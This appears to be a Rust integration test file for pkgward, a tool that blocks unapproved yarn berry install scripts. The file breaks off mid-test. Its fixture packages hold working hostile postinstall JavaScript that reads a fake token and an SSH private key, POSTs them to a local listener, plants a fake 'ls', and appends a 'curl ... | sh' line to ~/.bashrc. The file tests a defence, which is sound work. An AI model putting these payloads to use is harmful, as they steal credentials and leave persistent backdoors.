//! yarn 2+ (berry) install-time code under its default Plug'n'Play linker,
//! end to end: the real berry behind the pkgward shim against the loopback
//! registry, fixture packages whose install scripts write markers (and, for
//! the evil one, steal a fake token, drop an executable, append to
//! `~/.bashrc`). Unapproved: nothing runs, the install succeeds, the denial
//! is listed once and recorded. Approved: yarn builds it (through `yarn
//! rebuild` with pkgward's plugin), recorded with its exit code. A package
//! whose own `package.json` claims an approved name stays denied.
//!
//! yarn 2+ from `$PKGWARD_TEST_YARN_BERRY` or
//! `/opt/yarn-berry/node_modules/@yarnpkg/cli-dist/bin/yarn.js` (`npm
//! install --prefix /opt/yarn-berry @yarnpkg/cli-dist`).

mod support;

use std::path::PathBuf;
use std::sync::OnceLock;

use support::guard::{text, to_env, Guarded};
use support::registry::Listener;
use support::{js_marker, shared, NpmPackage};

fn berry_js() -> PathBuf {
    let p = std::env::var_os("PKGWARD_TEST_YARN_BERRY")
        .map(PathBuf::from)
        .unwrap_or_else(|| {
            PathBuf::from("/opt/yarn-berry/node_modules/@yarnpkg/cli-dist/bin/yarn.js")
        });
    assert!(
        p.is_file(),
        "yarn 2+ not found at {} (set PKGWARD_TEST_YARN_BERRY, or run \
         `npm install --prefix /opt/yarn-berry @yarnpkg/cli-dist`)",
        p.display()
    );
    p
}

fn evil_js() -> String {
    format!(
        "{marker}\
         const os = require('os'), http = require('http');\n\
         const home = os.homedir();\n\
         const url = fs.readFileSync(path.join(home, '.exfil-url'), 'utf8').trim();\n\
         let token = '';\n\
         try {{ token = fs.readFileSync(path.join(home, '.fake-token'), 'utf8').trim(); }} catch (e) {{}}\n\
         const req = http.request(url + '/node?t=' + token, {{ method: 'POST' }}, () => {{}});\n\
         req.on('error', () => {{}}); req.end(token);\n\
         fs.mkdirSync(path.join(home, 'bin'), {{ recursive: true }});\n\
         fs.writeFileSync(path.join(home, 'bin', 'ls'), '#!/bin/sh\\necho pwned\\n', {{ mode: 0o755 }});\n\
         fs.appendFileSync(path.join(home, '.bashrc'), 'curl ' + url + '/rc | sh\\n');\n",
        marker = js_marker("yb-evil"),
    )
}

/// Install-time code that appends a line to marker `name` (how many times it ran).
fn count_js(name: &str) -> String {
    format!(
        "require('fs').appendFileSync(require('path').join(process.env.FIXTURE_MARKER_DIR, {}), 'ran\\n');\n",
        serde_json::json!(name)
    )
}

fn fixtures() {
    static DONE: OnceLock<()> = OnceLock::new();
    DONE.get_or_init(|| {
        let r = shared();
        r.publish_npm(
            &NpmPackage::new("pw-yb-dep", "1.0.0")
                .script("postinstall", "node dep.js")
                .file("dep.js", js_marker("yb-dep"))
                .file("index.js", "module.exports = 'dep';\n"),
        );
        r.publish_npm(
            &NpmPackage::new("pw-yb-evil", "1.0.0")
                .dep("pw-yb-dep", "^1.0.0")
                .script("postinstall", "node evil.js")
                .file("evil.js", evil_js())
                .file("index.js", "module.exports = 'evil works without its script';\n"),
        );
        // All three install events, scoped.
        r.publish_npm(
            &NpmPackage::new("@pwyb/three", "2.1.0")
                .script("preinstall", "node -e \"require('./m.js')('pre')\"")
                .script("install", "node -e \"require('./m.js')('install')\"")
                .script("postinstall", "node -e \"require('./m.js')('post')\"")
                .file(
                    "m.js",
                    "const fs = require('fs'), path = require('path');\n\
                     module.exports = e => fs.appendFileSync(path.join(process.env.FIXTURE_MARKER_DIR, 'yb-three'), e + '\\n');\n",
                ),
        );
        // Its package.json claims the approved package's name.
        let spoof = NpmPackage::new("pw-yb-spoof", "1.0.0")
            .script("postinstall", "node spoof.js")
            .file("spoof.js", js_marker("yb-spoof"));
        let mut claimed = spoof.package_json();
        claimed["name"] = serde_json::json!("pw-yb-dep");
        r.publish_npm(&spoof.file("package.json", serde_json::to_string(&claimed).unwrap()));
        r.publish_npm(&NpmPackage::new("pw-yb-fail", "1.0.0").script("postinstall", "exit 3"));
        // A tool run through `yarn dlx`, with install-time code of its own
        // and of a dependency.
        r.publish_npm(
            &NpmPackage::new("pw-yb-tool", "1.0.0")
                .dep("pw-yb-dep", "^1.0.0")
                .field("bin", serde_json::json!({"pw-yb-tool": "tool.js"}))
                .script("postinstall", "node post.js")
                .file("post.js", js_marker("yb-tool"))
                .executable("tool.js", "#!/usr/bin/env node\nconsole.log('tool ran');\n"),
        );
        // `yarn dlx` of a tool whose approved dependency builds what the
        // tool needs (a native binary's postinstall) and also tries to read
        // a private key, next to a malicious sibling that tries to send it.
        r.publish_npm(
            &NpmPackage::new("pw-yb-native", "1.0.0")
                .script("postinstall", "node build.js")
                .file(
                    "build.js",
                    format!(
                        "{}let key = 'unreadable';\n\
                         try {{ key = fs.readFileSync(path.join(require('os').homedir(), '.ssh', 'id_rsa'), 'utf8'); }} catch (e) {{}}\n\
                         fs.appendFileSync(path.join(dir, 'yb-native'), key + '\\n');\n\
                         fs.writeFileSync(path.join(__dirname, 'built.txt'), 'native\\n');\n",
                        js_marker("yb-native")
                    ),
                ),
        );
        r.publish_npm(
            &NpmPackage::new("pw-yb-sneak", "1.0.0")
                .script("postinstall", "node sneak.js")
                .file(
                    "sneak.js",
                    format!(
                        "{}const os = require('os'), http = require('http');\n\
                         const url = fs.readFileSync(path.join(os.homedir(), '.exfil-url'), 'utf8').trim();\n\
                         let key = '';\n\
                         try {{ key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8'); }} catch (e) {{}}\n\
                         const req = http.request(url + '/key', {{ method: 'POST' }}, () => {{}});\n\
                         req.on('error', () => {{}}); req.end(key);\n",
                        js_marker("yb-sneak")
                    ),
                ),
        );
        r.publish_npm(
            &NpmPackage::new("pw-yb-cli", "1.0.0")
                .dep("pw-yb-native", "^1.0.0")
                .dep("pw-yb-sneak", "^1.0.0")
                .field("bin", serde_json::json!({"pw-yb-cli": "cli.js"}))
                .executable(
                    "cli.js",
                    "#!/usr/bin/env node\n\
                     const fs = require('fs'), path = require('path');\n\
                     const dir = path.dirname(require.resolve('pw-yb-native/package.json'));\n\
                     if (!fs.existsSync(path.join(dir, 'built.txt'))) { console.log('native missing'); process.exit(1); }\n\
                     fs.writeFileSync(path.join(process.cwd(), 'created.txt'), 'ok\\n');\n\
                     console.log('native ok');\n",
                ),
        );
        // Each build appends a line: how often it ran.
        for v in ["1.0.0", "1.1.0"] {
            r.publish_npm(
                &NpmPackage::new("pw-yb-count", v)
                    .script("postinstall", "node count.js")
                    .file("count.js", count_js("yb-count")),
            );
        }
    });
}

struct T {
    g: Guarded,
    exfil: Listener,
}

impl std::ops::Deref for T {
    type Target = Guarded;
    fn deref(&self) -> &Guarded {
        &self.g
    }
}

fn setup(policy_extra: &str, root_manifest: &str) -> T {
    fixtures();
    let exfil = Listener::start();
    let host = exfil
        .base_url()
        .trim_start_matches("http://")
        .trim_end_matches('/')
        .to_string();
    let policy = format!(
        "mode = \"enforce\"\n[registries]\nnpm = [\"{}\"]\n[network]\nallow = [\"{host}\"]\n{policy_extra}",
        shared().npm_url()
    );
    let g = Guarded::new(&policy);
    std::os::unix::fs::symlink(support::guard::pkgward_bin(), g.shims.join("yarn")).unwrap();
    std::os::unix::fs::symlink(berry_js(), g.real.join("yarn")).unwrap();
    std::fs::write(g.sb.home.join(".fake-token"), "tok-s3cret\n").unwrap();
    std::fs::write(g.sb.home.join(".bashrc"), "# rc\n").unwrap();
    std::fs::write(g.sb.home.join(".exfil-url"), exfil.base_url()).unwrap();
    std::fs::write(g.sb.work.join("package.json"), root_manifest).unwrap();
    // The registry in the project's own config (berry reads no npmrc).
    std::fs::write(
        g.sb.work.join(".yarnrc.yml"),
        format!(
            "npmRegistryServer: \"{}\"\nunsafeHttpWhitelist:\n  - 127.0.0.1\n",
            shared().npm_url()
        ),
    )
    .unwrap();
    std::fs::write(g.sb.work.join("yarn.lock"), "").unwrap();
    // A user's own yarn config (unreadable to confined code: it may hold
    // registry tokens).
    std::fs::write(
        g.sb.home.join(".yarnrc.yml"),
        "enableTelemetry: false\nnpmAuthToken: \"tok-s3cret\"\n",
    )
    .unwrap();
    T { g, exfil }
}

const APP: &str = r#"{"name":"pw-yb-app","version":"0.1.0","private":true}"#;

fn yarn(g: &T, args: &[&str]) -> std::process::Output {
    yarn_with(g, args, false)
}

/// `home_cache`: berry's default cache (the global one under
/// `~/.yarn/berry`), else one in the sandbox outside the home.
fn yarn_with(g: &T, args: &[&str], home_cache: bool) -> std::process::Output {
    let root = g.sb.root().to_path_buf();
    let dir = |n: &str| root.join(n).to_string_lossy().into_owned();
    let mut env = vec![
        ("YARN_ENABLE_TELEMETRY", "0".to_string()),
        ("YARN_ENABLE_IMMUTABLE_INSTALLS", "0".into()),
        ("YARN_ENABLE_PROGRESS_BARS", "0".into()),
        ("YARN_ENABLE_COLORS", "0".into()),
        ("DO_NOT_TRACK", "1".into()),
    ];
    if !home_cache {
        env.push(("YARN_CACHE_FOLDER", dir("berry-cache")));
        env.push(("YARN_GLOBAL_FOLDER", dir("berry-global")));
        env.push(("YARN_ENABLE_GLOBAL_CACHE", "0".into()));
    }
    let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
    g.sb.command("yarn", &[g.pkgward_env(), to_env(&env)])
        .args(args)
        .output()
        .unwrap()
}

fn scripts(g: &Guarded) -> Vec<serde_json::Value> {
    g.audit()
        .into_iter()
        .filter(|r| r["kind"] == "script")
        .collect()
}

fn node_pnp(g: &T, code: &str) -> std::process::Output {
    std::process::Command::new("node")
        .arg("-r")
        .arg(g.sb.work.join(".pnp.cjs"))
        .arg("-e")
        .arg(code)
        .current_dir(&g.sb.work)
        .output()
        .unwrap()
}

fn no_effects_of_evil(g: &T) {
    assert_eq!(g.sb.marker("yb-evil"), None, "the evil postinstall ran");
    assert_eq!(g.exfil.connections().len(), 0, "the listener was reached");
    assert_eq!(
        std::fs::read_to_string(g.sb.home.join(".bashrc")).unwrap(),
        "# rc\n"
    );
    assert!(!g.sb.home.join("bin/ls").exists());
}

#[test]
fn unapproved_scripts_do_not_run_under_pnp_and_the_install_succeeds() {
    let g = setup("", APP);
    let o = yarn(&g, &["add", "pw-yb-evil", "@pwyb/three"]);
    let err = text(&o.stderr);
    let out = text(&o.stdout);
    assert!(o.status.success(), "yarn failed: {out}\n{err}");
    assert!(g.sb.work.join(".pnp.cjs").is_file(), "not a PnP install");
    assert!(!g.sb.work.join("node_modules").exists());
    no_effects_of_evil(&g);
    assert_eq!(g.sb.marker("yb-dep"), None);
    assert_eq!(g.sb.marker("yb-three"), None);
    // Listed once, with the command that approves each.
    for a in [
        "pkgward approve npm:pw-yb-evil@1.0.0",
        "pkgward approve npm:pw-yb-dep@1.0.0",
        "pkgward approve npm:@pwyb/three@2.1.0",
    ] {
        assert!(err.contains(a), "{a}: {err}");
    }
    assert_eq!(err.matches("install-time code not run").count(), 1, "{err}");
    // The package works without its script.
    let ok = node_pnp(&g, "console.log(require('pw-yb-evil'))");
    assert_eq!(
        text(&ok.stdout).trim(),
        "evil works without its script",
        "{}",
        text(&ok.stderr)
    );
    // Recorded, linked to the invocation.
    let inv = g.last_invocation();
    let recs = scripts(&g);
    let evil = recs
        .iter()
        .find(|r| r["package"] == "pw-yb-evil")
        .expect("a script record for pw-yb-evil");
    assert_eq!(evil["invocation_id"], inv["invocation_id"]);
    assert_eq!(evil["decision"], "deny");
    assert_eq!(evil["ran"], false);
    assert_eq!(evil["script"], "postinstall");
    assert_eq!(evil["command"], "node evil.js");
    assert_eq!(evil["version"], "1.0.0");
    let three: Vec<&serde_json::Value> = recs
        .iter()
        .filter(|r| r["package"] == "@pwyb/three")
        .collect();
    assert_eq!(three.len(), 3, "{three:#?}");
}

#[test]
fn approved_scripts_run_through_yarn_and_are_recorded() {
    let g = setup(
        "[scripts]\nallow = [\"npm:pw-yb-dep\", \"npm:@pwyb/three@^2\"]\n",
        APP,
    );
    let o = yarn(&g, &["add", "pw-yb-evil", "@pwyb/three"]);
    let err = text(&o.stderr);
    let out = text(&o.stdout);
    assert!(o.status.success(), "yarn failed: {out}\n{err}");
    assert_eq!(
        g.sb.marker("yb-dep").as_deref(),
        Some("ran\n"),
        "{out}\n{err}"
    );
    assert_eq!(
        g.sb.marker("yb-three").as_deref(),
        Some("pre\ninstall\npost\n"),
        "{out}\n{err}"
    );
    no_effects_of_evil(&g);
    assert!(
        err.contains("pkgward approve npm:pw-yb-evil@1.0.0"),
        "{err}"
    );
    assert!(!err.contains("approve npm:pw-yb-dep"), "{err}");
    let recs = scripts(&g);
    let dep = recs
        .iter()
        .find(|r| r["package"] == "pw-yb-dep")
        .expect("a record for pw-yb-dep");
    assert_eq!(dep["decision"], "approved");
    assert_eq!(dep["ran"], true, "{dep:#}");
    assert_eq!(dep["exit_code"], 0);
    assert!(dep["approved_by"]
        .as_str()
        .unwrap()
        .starts_with("npm:pw-yb-dep"));
    assert_eq!(dep["runner"][0], "yarn");
    assert_eq!(dep["runner"][1], "install");
    // Confined, like npm's approved scripts.
    assert!(dep["sandbox"].is_object(), "{dep:#}");
    let evil = recs.iter().find(|r| r["package"] == "pw-yb-evil").unwrap();
    assert_eq!(evil["ran"], false);
    let post = recs
        .iter()
        .find(|r| r["package"] == "@pwyb/three" && r["script"] == "postinstall")
        .unwrap();
    assert_eq!(post["exit_code"], 0);
}

#[test]
fn a_package_claiming_an_approved_name_stays_denied() {
    let g = setup("[scripts]\nallow = [\"npm:pw-yb-dep\"]\n", APP);
    let o = yarn(&g, &["add", "pw-yb-spoof"]);
    let err = text(&o.stderr);
    assert!(o.status.success(), "{err}");
    assert_eq!(g.sb.marker("yb-spoof"), None, "{err}");
    assert!(
        err.contains("pkgward approve npm:pw-yb-spoof@1.0.0"),
        "{err}"
    );
    let recs = scripts(&g);
    let r = recs.iter().find(|r| r["package"] == "pw-yb-spoof").unwrap();
    assert_eq!(r["decision"], "deny");
    assert!(!recs.iter().any(|r| r["package"] == "pw-yb-dep"));
}

/// An alias is decided as the package it points to.
#[test]
fn an_alias_is_what_it_points_to() {
    let g = setup(
        "[scripts]\nallow = [\"npm:pw-yb-dep\"]\n",
        r#"{"name":"pw-yb-app","version":"0.1.0","private":true,"dependencies":{"pw-yb-dep":"npm:pw-yb-spoof@^1.0.0","nice":"npm:pw-yb-dep@^1.0.0"}}"#,
    );
    let o = yarn(&g, &["install"]);
    let err = text(&o.stderr);
    assert!(o.status.success(), "{err}");
    assert_eq!(g.sb.marker("yb-spoof"), None, "{err}");
    assert_eq!(g.sb.marker("yb-dep").as_deref(), Some("ran\n"), "{err}");
    assert!(
        err.contains("pkgward approve npm:pw-yb-spoof@1.0.0"),
        "{err}"
    );
}

/// The project's own install scripts (which berry runs even with scripts
/// off) follow the policy too: approved by `npm:NAME@local` only, not by
/// the approval of the registry package of its name.
#[test]
fn the_projects_own_scripts_follow_the_policy() {
    let root = r#"{"name":"pw-yb-app","version":"0.1.0","private":true,"scripts":{"postinstall":"node -e \"require('fs').writeFileSync(process.env.FIXTURE_MARKER_DIR + '/yb-root', 'ran')\""}}"#;
    let g = setup("[scripts]\nallow = [\"npm:pw-yb-app\"]\n", root);
    let o = yarn(&g, &["install"]);
    let err = text(&o.stderr);
    assert!(o.status.success(), "{err}");
    assert_eq!(g.sb.marker("yb-root"), None, "{err}");
    assert!(err.contains("pkgward approve npm:pw-yb-app@local"), "{err}");
    assert!(
        err.contains("`npm:pw-yb-app` approves the registry package only"),
        "{err}"
    );
    let recs = scripts(&g);
    let r = recs.iter().find(|r| r["package"] == "pw-yb-app").unwrap();
    assert_eq!(r["decision"], "deny");
    assert_eq!(r["path"], ".");

    let g = setup("[scripts]\nallow = [\"npm:pw-yb-app@local\"]\n", root);
    let o = yarn(&g, &["install"]);
    let err = text(&o.stderr);
    assert!(o.status.success(), "{err}");
    assert_eq!(g.sb.marker("yb-root").as_deref(), Some("ran"), "{err}");
    let recs = scripts(&g);
    let r = recs.iter().find(|r| r["package"] == "pw-yb-app").unwrap();
    assert_eq!(r["decision"], "approved");
    assert_eq!(r["ran"], true, "{r:#}");
    assert_eq!(r["exit_code"], 0);
}

#[test]
fn an_approved_script_that_fails_fails_the_install() {
    let g = setup("[scripts]\nallow = [\"npm:pw-yb-fail\"]\n", APP);
    let o = yarn(&g, &["add", "pw-yb-fail"]);
    assert!(!o.status.success(), "{}", text(&o.stderr));
    let recs = scripts(&g);
    let r = recs.iter().find(|r| r["package"] == "pw-yb-fail").unwrap();
    assert_eq!(r["ran"], true, "{r:#}");
    assert_eq!(r["exit_code"], 3);
}

/// `yarn rebuild` and `yarn unplug` run an install (and so build
/// scripts): they run with scripts off like the rest.
#[test]
fn rebuild_and_unplug_run_no_unapproved_scripts() {
    let g = setup("[scripts]\nallow = [\"npm:pw-yb-dep\"]\n", APP);
    let o = yarn(&g, &["add", "pw-yb-evil"]);
    assert!(o.status.success(), "{}", text(&o.stderr));
    std::fs::remove_file(g.sb.markers.join("yb-dep")).unwrap();
    for args in [
        &["rebuild"][..],
        &["rebuild", "pw-yb-evil"],
        &["unplug", "pw-yb-evil"],
    ] {
        let o = yarn(&g, args);
        let err = text(&o.stderr);
        assert!(o.status.success(), "{args:?}: {err}");
        no_effects_of_evil(&g);
        assert!(
            err.contains("pkgward approve npm:pw-yb-evil@1.0.0"),
            "{args:?}: {err}"
        );
    }
    // The approved one ran again.
    assert_eq!(g.sb.marker("yb-dep").as_deref(), Some("ran\n"));
}

/// Berry with `nodeLinker: node-modules`: the dependencies the npm way
/// (`npm rebuild`), the project's own scripts through pkgward's plugin.
#[test]
fn the_node_modules_linker_runs_only_the_approved_scripts() {
    let root = r#"{"name":"pw-yb-app","version":"0.1.0","private":true,"scripts":{"postinstall":"node -e \"require('fs').writeFileSync(process.env.FIXTURE_MARKER_DIR + '/yb-root', 'ran')\""}}"#;
    let g = setup("[scripts]\nallow = [\"npm:pw-yb-dep\"]\n", root);
    std::fs::write(
        g.sb.work.join(".yarnrc.yml"),
        format!(
            "nodeLinker: node-modules\nnpmRegistryServer: \"{}\"\nunsafeHttpWhitelist:\n  - 127.0.0.1\n",
            shared().npm_url()
        ),
    )
    .unwrap();
    let o = yarn(&g, &["add", "pw-yb-evil"]);
    let err = text(&o.stderr);
    assert!(o.status.success(), "{err}");
    assert!(g.sb.work.join("node_modules/pw-yb-evil").is_dir());
    no_effects_of_evil(&g);
    assert_eq!(g.sb.marker("yb-root"), None, "{err}");
    assert_eq!(g.sb.marker("yb-dep").as_deref(), Some("ran\n"), "{err}");
    assert!(
        err.contains("pkgward approve npm:pw-yb-evil@1.0.0"),
        "{err}"
    );
    assert!(err.contains("pkgward approve npm:pw-yb-app@local"), "{err}");
    // One list, and yarn's own mechanism ran the approved one.
    assert_eq!(err.matches("install-time code not run").count(), 1, "{err}");
    let recs = scripts(&g);
    let dep = recs.iter().find(|r| r["package"] == "pw-yb-dep").unwrap();
    assert_eq!(dep["runner"][0], "yarn", "{dep:#}");
    assert_eq!(dep["exit_code"], 0);
}

/// Berry with `nodeLinker: pnpm`: what yarn did not build is read where
/// yarn's linker put it; the approved ones run through `yarn rebuild`.
#[test]
fn the_pnpm_linker_runs_only_the_approved_scripts() {
    let g = setup("[scripts]\nallow = [\"npm:pw-yb-dep\"]\n", APP);
    std::fs::write(
        g.sb.work.join(".yarnrc.yml"),
        format!(
            "nodeLinker: pnpm\nnpmRegistryServer: \"{}\"\nunsafeHttpWhitelist:\n  - 127.0.0.1\n",
            shared().npm_url()
        ),
    )
    .unwrap();
    let o = yarn(&g, &["add", "pw-yb-evil", "pw-yb-spoof"]);
    let err = text(&o.stderr);
    assert!(o.status.success(), "{err}");
    assert!(g.sb.work.join("node_modules/.store").is_dir(), "{err}");
    no_effects_of_evil(&g);
    assert_eq!(g.sb.marker("yb-spoof"), None, "{err}");
    assert_eq!(g.sb.marker("yb-dep").as_deref(), Some("ran\n"), "{err}");
    assert!(
        err.contains("pkgward approve npm:pw-yb-evil@1.0.0"),
        "{err}"
    );
    assert!(
        err.contains("pkgward approve npm:pw-yb-spoof@1.0.0"),
        "{err}"
    );
    let recs = scripts(&g);
    let dep = recs.iter().find(|r| r["package"] == "pw-yb-dep").unwrap();
    assert_eq!(dep["ran"], true, "{dep:#}");
    assert_eq!(dep["exit_code"], 0);
}

/// Berry's defaults: the global cache in `~/.yarn/berry` (read by the
/// confined rebuild), the user's `~/.yarnrc.yml` (unreadable to it).
#[test]
fn approved_scripts_run_with_berrys_default_cache() {
    let g = setup("[scripts]\nallow = [\"npm:pw-yb-dep\"]\n", APP);
    let o = yarn_with(&g, &["add", "pw-yb-evil"], true);
    let err = text(&o.stderr);
    assert!(o.status.success(), "{}\n{err}", text(&o.stdout));
    assert!(g.sb.home.join(".local/share/yarn/berry/cache").is_dir());
    assert_eq!(g.sb.marker("yb-dep").as_deref(), Some("ran\n"), "{err}");
    no_effects_of_evil(&g);
}

fn set_linker(g: &T, linker: &str) {
    std::fs::write(
        g.sb.work.join(".yarnrc.yml"),
        format!(
            "nodeLinker: {linker}\nnpmRegistryServer: \"{}\"\nunsafeHttpWhitelist:\n  - 127.0.0.1\n",
            shared().npm_url()
        ),
    )
    .unwrap();
}

fn runs(g: &T, marker: &str) -> usize {
    g.sb.marker(marker).unwrap_or_default().lines().count()
}

/// The records of the last invocation.
fn last_scripts(g: &T) -> Vec<serde_json::Value> {
    let inv = g.last_invocation();
    scripts(g)
        .into_iter()
        .filter(|r| r["invocation_id"] == inv["invocation_id"])
        .collect()
}

/// yarn's own build state decides: an unchanged approved package is not
/// built again on the next install (recorded as not run, without error),
/// a new or changed one is.
#[test]
fn an_unchanged_approved_build_does_not_run_again() {
    for linker in ["pnp", "node-modules"] {
        let g = setup(
            "[scripts]\nallow = [\"npm:pw-yb-count\", \"npm:pw-yb-dep\"]\n",
            APP,
        );
        set_linker(&g, linker);
        let o = yarn(&g, &["add", "pw-yb-count@1.0.0"]);
        assert!(o.status.success(), "{linker}: {}", text(&o.stderr));
        assert_eq!(runs(&g, "yb-count"), 1, "{linker}");
        for _ in 0..2 {
            let o = yarn(&g, &["install"]);
            assert!(o.status.success(), "{linker}: {}", text(&o.stderr));
        }
        assert_eq!(runs(&g, "yb-count"), 1, "{linker}: built again");
        let recs = last_scripts(&g);
        let r = recs
            .iter()
            .find(|r| r["package"] == "pw-yb-count")
            .unwrap_or_else(|| panic!("{linker}: no record: {recs:#?}"));
        assert_eq!(r["decision"], "approved");
        assert_eq!(r["ran"], false, "{linker}: {r:#}");
        assert!(r.get("error").is_none(), "{linker}: {r:#}");
        // The package still works (its unplugged copy kept).
        if linker == "pnp" {
            let ok = node_pnp(&g, "require.resolve('pw-yb-count/count.js')");
            assert!(ok.status.success(), "{}", text(&ok.stderr));
        }
        // A new approved package builds, the unchanged one does not.
        let o = yarn(&g, &["add", "pw-yb-dep"]);
        assert!(o.status.success(), "{linker}: {}", text(&o.stderr));
        assert_eq!(g.sb.marker("yb-dep").as_deref(), Some("ran\n"), "{linker}");
        assert_eq!(runs(&g, "yb-count"), 1, "{linker}");
        // A changed one builds again.
        let o = yarn(&g, &["add", "pw-yb-count@1.1.0"]);
        assert!(o.status.success(), "{linker}: {}", text(&o.stderr));
        assert_eq!(runs(&g, "yb-count"), 2, "{linker}");
    }
}

/// What was denied and is approved now runs on the next install, even
/// with nothing else changed: the project's own script and a dependency's.
#[test]
fn what_was_denied_runs_once_approved() {
    let root = r#"{"name":"pw-yb-app","version":"0.1.0","private":true,"dependencies":{"pw-yb-count":"1.0.0"},"scripts":{"postinstall":"node -e \"require('fs').appendFileSync(process.env.FIXTURE_MARKER_DIR + '/yb-root', 'ran\\n')\""}}"#;
    let g = setup("", root);
    let o = yarn(&g, &["install"]);
    let err = text(&o.stderr);
    assert!(o.status.success(), "{err}");
    assert_eq!(runs(&g, "yb-root"), 0, "{err}");
    assert_eq!(runs(&g, "yb-count"), 0, "{err}");
    assert!(err.contains("pkgward approve npm:pw-yb-app@local"), "{err}");
    // Denied again: listed again.
    let o = yarn(&g, &["install"]);
    let err = text(&o.stderr);
    assert!(err.contains("pkgward approve npm:pw-yb-app@local"), "{err}");
    assert!(
        err.contains("pkgward approve npm:pw-yb-count@1.0.0"),
        "{err}"
    );
    // Approved (the lockfile unchanged): both run on the next install.
    let policy = std::fs::read_to_string(&g.policy).unwrap();
    std::fs::write(
        &g.policy,
        format!("{policy}\n[scripts]\nallow = [\"npm:pw-yb-app@local\", \"npm:pw-yb-count\"]\n"),
    )
    .unwrap();
    let lock = std::fs::read_to_string(g.sb.work.join("yarn.lock")).unwrap();
    let o = yarn(&g, &["install"]);
    let err = text(&o.stderr);
    assert!(o.status.success(), "{err}");
    assert_eq!(
        std::fs::read_to_string(g.sb.work.join("yarn.lock")).unwrap(),
        lock
    );
    assert_eq!(runs(&g, "yb-root"), 1, "{err}");
    assert_eq!(runs(&g, "yb-count"), 1, "{err}");
    assert!(!err.contains("pkgward approve"), "{err}");
    // And then not again while nothing changes.
    let o = yarn(&g, &["install"]);
    assert!(o.status.success(), "{}", text(&o.stderr));
    assert_eq!(runs(&g, "yb-root"), 1);
    assert_eq!(runs(&g, "yb-count"), 1);
}

/// `yarn dlx`: the fetched package runs only when the policy approves it;
/// the install-time code of what it fetched runs when approved, and the
/// rest is listed (with its approve command) and recorded.
#[test]
fn yarn_dlx_lists_and_records_what_it_did_not_build() {
    let g = setup("[scripts]\nallow = [\"npm:pw-yb-tool\"]\n", APP);
    let o = yarn(&g, &["dlx", "pw-yb-tool"]);
    let err = text(&o.stderr);
    let out = text(&o.stdout);
    assert!(o.status.success(), "{out}\n{err}");
    assert!(out.contains("tool ran"), "{out}\n{err}");
    // Approved: built inside dlx's run (confined); its denied dependency not.
    assert_eq!(g.sb.marker("yb-tool").as_deref(), Some("ran\n"), "{err}");
    assert_eq!(g.sb.marker("yb-dep"), None, "{err}");
    assert!(err.contains("pkgward approve npm:pw-yb-dep@1.0.0"), "{err}");
    assert!(!err.contains("approve npm:pw-yb-tool"), "{err}");
    let recs = last_scripts(&g);
    let dep = recs
        .iter()
        .find(|r| r["package"] == "pw-yb-dep")
        .expect("pw-yb-dep recorded");
    assert_eq!(dep["decision"], "deny");
    assert_eq!(dep["command"], "node dep.js");
    let tool = recs
        .iter()
        .find(|r| r["package"] == "pw-yb-tool")
        .expect("pw-yb-tool recorded");
    assert_eq!(tool["decision"], "approved");
    assert_eq!(tool["ran"], true);
    assert_eq!(tool["version"], "1.0.0");
    // Not approved: not fetched or run at all.
    let g = setup("", APP);
    let o = yarn(&g, &["dlx", "pw-yb-tool"]);
    assert!(!o.status.success());
    assert!(!text(&o.stdout).contains("tool ran"));
    assert!(
        text(&o.stderr).contains("pw-yb-tool"),
        "{}",
        text(&o.stderr)
    );
}

/// `yarn dlx` builds the approved packages of what it fetched, confined
/// (the private key unreadable to it), inside its own run: the tool works.
/// The unapproved sibling does not run (the listener gets nothing), and is
/// listed and recorded. Without the approval the tool is broken.
#[test]
fn yarn_dlx_builds_approved_packages_confined() {
    let g = setup(
        "[scripts]\nallow = [\"npm:pw-yb-cli\", \"npm:pw-yb-native@^1.0.0\"]\n",
        APP,
    );
    std::fs::create_dir_all(g.sb.home.join(".ssh")).unwrap();
    std::fs::write(g.sb.home.join(".ssh/id_rsa"), "FAKE-PRIVATE-KEY\n").unwrap();
    let o = yarn(&g, &["dlx", "pw-yb-cli"]);
    let (out, err) = (text(&o.stdout), text(&o.stderr));
    assert!(o.status.success(), "{out}\n{err}");
    assert!(out.contains("native ok"), "{out}\n{err}");
    // The tool wrote into the current directory.
    assert!(g.sb.work.join("created.txt").is_file());
    let native = g.sb.marker("yb-native").expect("the approved build ran");
    assert!(!native.contains("FAKE-PRIVATE-KEY"), "{native}");
    assert_eq!(g.sb.marker("yb-sneak"), None, "{err}");
    assert_eq!(g.exfil.connections().len(), 0, "the listener was reached");
    assert!(
        err.contains("pkgward approve npm:pw-yb-sneak@1.0.0"),
        "{err}"
    );
    let recs = last_scripts(&g);
    let built = recs
        .iter()
        .find(|r| r["package"] == "pw-yb-native")
        .expect("pw-yb-native recorded");
    assert_eq!(built["decision"], "approved", "{built:#}");
    assert_eq!(built["ran"], true, "{built:#}");
    assert_eq!(built["exit_code"], 0, "{built:#}");
    assert!(built["duration_ms"].is_number(), "{built:#}");
    assert!(built["sandbox"].is_object(), "{built:#}");
    let sneak = recs
        .iter()
        .find(|r| r["package"] == "pw-yb-sneak")
        .expect("pw-yb-sneak recorded");
    assert_eq!(sneak["decision"], "deny");
    assert_eq!(sneak["ran"], false);
    // Not approved: not built, and the tool cannot work.
    let g = setup("[scripts]\nallow = [\"npm:pw-yb-cli\"]\n", APP);
    let o = yarn(&g, &["dlx", "pw-yb-cli"]);
    assert!(
        text(&o.stdout).contains("native missing"),
        "{}",
        text(&o.stderr)
    );
    assert!(!o.status.success());
    assert_eq!(g.sb.marker("yb-native"), None, "{}", text(&o.stderr));
}

/// `pkgward scripts --json` in the sandbox's project (`extra`: variables).
fn scripts_list(g: &T, extra: &[(&str, &str)]) -> Vec<serde_json::Value> {
    let o =
        g.sb.command(
            support::guard::pkgward_bin(),
            &[g.pkgward_env(), to_env(extra)],
        )
        .args(["scripts", "--json"])
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", text(&o.stderr));
    text(&o.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

/// `pkgward scripts` reads a berry project from yarn's own files, whatever
/// the linker, and decides each package as the yarn shim does (by yarn's
/// locator, not the name its `package.json` claims).
#[test]
fn pkgward_scripts_reads_a_berry_project() {
    let root = r#"{"name":"pw-yb-app","version":"0.1.0","private":true,"scripts":{"postinstall":"node -e 0"}}"#;
    let g = setup("[scripts]\nallow = [\"npm:pw-yb-dep\"]\n", root);
    let o = yarn(&g, &["add", "pw-yb-evil", "@pwyb/three", "pw-yb-spoof"]);
